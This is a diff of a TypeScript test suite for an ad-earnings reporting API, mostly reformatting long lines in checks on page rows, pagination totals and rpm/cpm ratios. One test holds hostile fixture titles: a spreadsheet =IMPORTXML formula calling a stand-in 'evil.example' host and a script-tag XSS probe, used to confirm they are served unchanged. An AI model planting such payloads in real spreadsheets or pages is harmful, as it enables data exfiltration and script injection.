@@ -44,7 +44,20 @@ describe('every dated report', () => {
 
   test('pages/performance rows look like the contract example', () => {
     const row = harness().json(`${path('pages/performance')}?${OCT}&page[size]=1`).body.data[0];
-    expect(Object.keys(row)).toEqual(['pageUrl', 'siteUrl', 'impressions', 'earnings', 'pageviews', 'pageviewsPercent', 'rpm', 'viewability', 'cpm', 'impressionsPerPageview', 'modifiedDate', 'author']);
+    expect(Object.keys(row)).toEqual([
+      'pageUrl',
+      'siteUrl',
+      'impressions',
+      'earnings',
+      'pageviews',
+      'pageviewsPercent',
+      'rpm',
+      'viewability',
+      'cpm',
+      'impressionsPerPageview',
+      'modifiedDate',
+      'author',
+    ]);
     expect(row.pageUrl).toMatch(/^\//);
     expect(row.siteUrl).toBe('https://example-kitchen.com');
     expect(row).not.toHaveProperty('sessions');
@@ -118,7 +131,8 @@ describe('consistency', () => {
   test('page reports split the range totals over the pages', () => {
     const pages = h.json(`${path('pages/performance')}?${OCT}&page[size]=500&page[number]=1`).body;
     const all = [...pages.data];
-    for (let n = 2; n <= pages.meta.page.last; n++) all.push(...h.json(`${path('pages/performance')}?${OCT}&page[size]=500&page[number]=${n}`).body.data);
+    for (let n = 2; n <= pages.meta.page.last; n++)
+      all.push(...h.json(`${path('pages/performance')}?${OCT}&page[size]=500&page[number]=${n}`).body.data);
     expect(all).toHaveLength(1203);
     const daily = rows('earnings');
     expect(cents(sum(all, 'earnings'))).toBe(cents(sum(daily, 'earnings')));
@@ -137,7 +151,13 @@ describe('consistency', () => {
   });
 
   test('ratios match their parts to the cent', () => {
-    for (const key of ['earnings', 'devices/performance', 'traffic-sources/performance', 'countries/performance', 'categories/performance']) {
+    for (const key of [
+      'earnings',
+      'devices/performance',
+      'traffic-sources/performance',
+      'countries/performance',
+      'categories/performance',
+    ]) {
       for (const r of rows(key)) {
         if (r.sessions === 0) {
           expect(r.rpm).toBeNull();
@@ -146,7 +166,8 @@ describe('consistency', () => {
         expect(Math.abs(r.rpm - (r.earnings / r.sessions) * 1000)).toBeLessThanOrEqual(0.005 + 1e-9);
         expect(Math.abs(r.rps - r.earnings / r.sessions)).toBeLessThanOrEqual(0.00005 + 1e-9);
         if ('pageRpm' in r) expect(Math.abs(r.pageRpm - (r.earnings / r.pageviews) * 1000)).toBeLessThanOrEqual(0.005 + 1e-9);
-        if ('cpm' in r && r.impressions > 0) expect(Math.abs(r.cpm - (r.earnings / r.impressions) * 1000)).toBeLessThanOrEqual(0.005 + 1e-9);
+        if ('cpm' in r && r.impressions > 0)
+          expect(Math.abs(r.cpm - (r.earnings / r.impressions) * 1000)).toBeLessThanOrEqual(0.005 + 1e-9);
         if ('pps' in r) expect(Math.abs(r.pps - r.pageviews / r.sessions)).toBeLessThanOrEqual(0.005 + 1e-9);
         expect(Number.isInteger(Math.round(r.earnings * 100 * 1e6) / 1e6)).toBe(true);
       }
@@ -154,8 +175,15 @@ describe('consistency', () => {
   });
 
   test('some zero-traffic rows have rpm null', () => {
-    expect(rows('countries/performance').find((r: { country: string }) => r.country === 'Antarctica')).toMatchObject({ sessions: 0, earnings: 0, rpm: null });
-    expect(rows('categories/performance').find((r: { category: string }) => r.category === 'Uncategorized')).toMatchObject({ sessions: 0, rpm: null });
+    expect(rows('countries/performance').find((r: { country: string }) => r.country === 'Antarctica')).toMatchObject({
+      sessions: 0,
+      earnings: 0,
+      rpm: null,
+    });
+    expect(rows('categories/performance').find((r: { category: string }) => r.category === 'Uncategorized')).toMatchObject({
+      sessions: 0,
+      rpm: null,
+    });
     const last = h.json(`${path('pages/performance')}?${OCT}&page[size]=3&sort=-pageviews&page[number]=401`).body.data;
     expect(last.length).toBeGreaterThan(0);
     expect(last[last.length - 1]).toMatchObject({ pageviews: 0, rpm: null });
@@ -179,7 +207,14 @@ describe('consistency', () => {
 
   test('hostile and non-Latin page titles and URLs are served as-is', () => {
     const titles = h.json(`${path('traffic/pages')}?${OCT}&page[size]=100`).body.data.map((r: { pageTitle: string }) => r.pageTitle);
-    for (const t of ['=IMPORTXML("http://evil.example","//a")', '+1 cheap trick', '@mention', '<script>alert(1)</script> tips', 'Crème brûlée 🍮', '日本のラーメン']) {
+    for (const t of [
+      '=IMPORTXML("http://evil.example","//a")',
+      '+1 cheap trick',
+      '@mention',
+      '<script>alert(1)</script> tips',
+      'Crème brûlée 🍮',
+      '日本のラーメン',
+    ]) {
       expect(titles).toContain(t);
     }
     const urls = h.json(`${path('pages/performance')}?${OCT}&page[size]=100`).body.data.map((r: { pageUrl: string }) => r.pageUrl);
